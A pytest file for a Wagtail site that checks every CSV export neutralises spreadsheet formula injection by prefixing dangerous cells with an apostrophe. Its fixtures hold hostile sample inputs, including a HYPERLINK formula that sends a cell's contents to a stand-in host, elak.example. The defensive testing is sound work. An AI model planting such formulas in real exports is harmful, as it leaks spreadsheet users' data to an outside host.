"""No CSV the site writes can run a formula in a spreadsheet (issue 20, item 5).

A visitor's feedback, a page title or a person's name that starts with =, +, -, @, a tab or a
carriage return (or their full-width forms) is a formula to Excel and LibreOffice; every export
writes such a cell with a leading apostrophe (OWASP's CSV injection advice), whoever wrote it.
The exports are found, not listed by hand where Wagtail offers them (every report and snippet
listing with an export), so a new one cannot miss the rule."""

import csv
import io
from pathlib import Path

import pytest

from django.urls import reverse

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page

from pages.feedback import Feedback
from pages.models import HomePage, ProjectIndexPage
from regionsite.spreadsheets import FORMULA_PREFIXES, safe_cell
from tests.factories import ProjectPageFactory, StandardPageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://elak.example/?"&A1,"Klicka")'
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A1"]


def cells(response) -> list[str]:
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_safe(response, expected: str):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    found = cells(response)
    assert not [cell for cell in found if cell.startswith(FORMULA_PREFIXES)], found
    assert "'" + expected in found, f"{expected!r} not exported"


@pytest.fixture
def hostile_content(seeded):
    home = HomePage.objects.get(locale__language_code="sv")
    page = StandardPageFactory(parent=home, title=FORMULA, slug="formel")
    page.save_revision().publish()
    index = ProjectIndexPage.objects.get(locale__language_code="sv")
    project = ProjectPageFactory(parent=index, title=FORMULA, slug="formelprojekt")
    project.save_revision().publish()
    for message in HOSTILE:
        Feedback.objects.create(page_url="/", language="sv", message=message)
    return page


@pytest.fixture
def admin_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("export", password="x"))
    return client


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_prefix_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Bredband", "Tel. 026-15 40 00", "", " =mellanslag först"])
def test_other_text_and_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value
    assert safe_cell(-5) == -5 and safe_cell(None) is None


def test_the_feedback_export_neutralises_every_formula(admin_client, hostile_content):
    assert_safe(admin_client.get("/admin/snippets/pages/feedback/?export=csv"), FORMULA)
    found = cells(admin_client.get("/admin/snippets/pages/feedback/?export=csv"))
    assert {"'" + value for value in HOSTILE} <= set(found)


@pytest.mark.parametrize(
    "url",
    [
        "/admin/reports/granska/?format=csv",
        "/admin/reports/lasbarhet/?format=csv",
        "/admin/reports/aging-pages/?export=csv",
        "/admin/reports/locked/?export=csv",
    ],
)
def test_the_editor_reports_neutralise_page_titles(admin_client, hostile_content, url):
    if "locked" in url:
        Page.objects.filter(pk=hostile_content.pk).update(locked=True)
    assert_safe(admin_client.get(url), FORMULA)


def test_the_translation_report_neutralises_page_titles(admin_client, hostile_content):
    url = reverse("regionsite_translation_report")
    assert_safe(admin_client.get(url, {"sprak": "en", "format": "csv"}), FORMULA)


def test_the_open_data_neutralises_project_titles(client, hostile_content):
    assert_safe(client.get("/projekt/data/csv/"), FORMULA)


def test_every_wagtail_export_goes_through_the_rule():
    """Wagtail's reports and listings write CSV through SpreadsheetExportMixin; the rule is
    installed there once (regionsite/spreadsheets.py), for the views Wagtail itself registers."""
    view = SpreadsheetExportMixin()
    assert view.preprocess_field_value("message", FORMULA, "csv") == "'" + FORMULA
    assert view.preprocess_field_value("message", FORMULA, "xlsx") == FORMULA  # a string cell


def test_no_module_writes_csv_around_the_rule():
    """A new export that used the csv module directly would skip the rule: only
    regionsite/spreadsheets.py may."""
    root = Path(__file__).resolve().parent.parent
    writers = [
        str(path.relative_to(root))
        for folder in ("pages", "regionsite")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["regionsite/spreadsheets.py"]


def test_wagtails_exports_read_as_a_person_reads_them(admin_client, seeded):
    """Booleans as ja/nej, no value as nothing, times in local time to the minute (Wagtail
    wrote "False", "None" and UTC with microseconds)."""
    import datetime
    import re

    from django.utils import timezone

    Feedback.objects.create(page_url="/", language="sv", found=False, message="Svårt att hitta")
    Feedback.objects.create(page_url="/", language="sv", found=None, message="Inget svar")
    rows = list(
        csv.DictReader(
            io.StringIO(
                b"".join(
                    admin_client.get("/admin/snippets/pages/feedback/?export=csv").streaming_content
                ).decode("utf-8-sig")
            )
        )
    )
    values = [value for row in rows for value in row.values()]
    assert not {"False", "True", "None"} & set(values)
    by_message = {
        row[next(k for k in row if "ommentar" in k or "ynpunkt" in k)]: row for row in rows
    }
    assert "nej" in by_message["Svårt att hitta"].values()
    created = next(
        v
        for v in by_message["Inget svar"].values()
        if re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", v)
    )
    now = timezone.localtime()
    assert abs(datetime.datetime.strptime(created, "%Y-%m-%d %H:%M") - now.replace(tzinfo=None)) < (
        datetime.timedelta(minutes=2)
    )
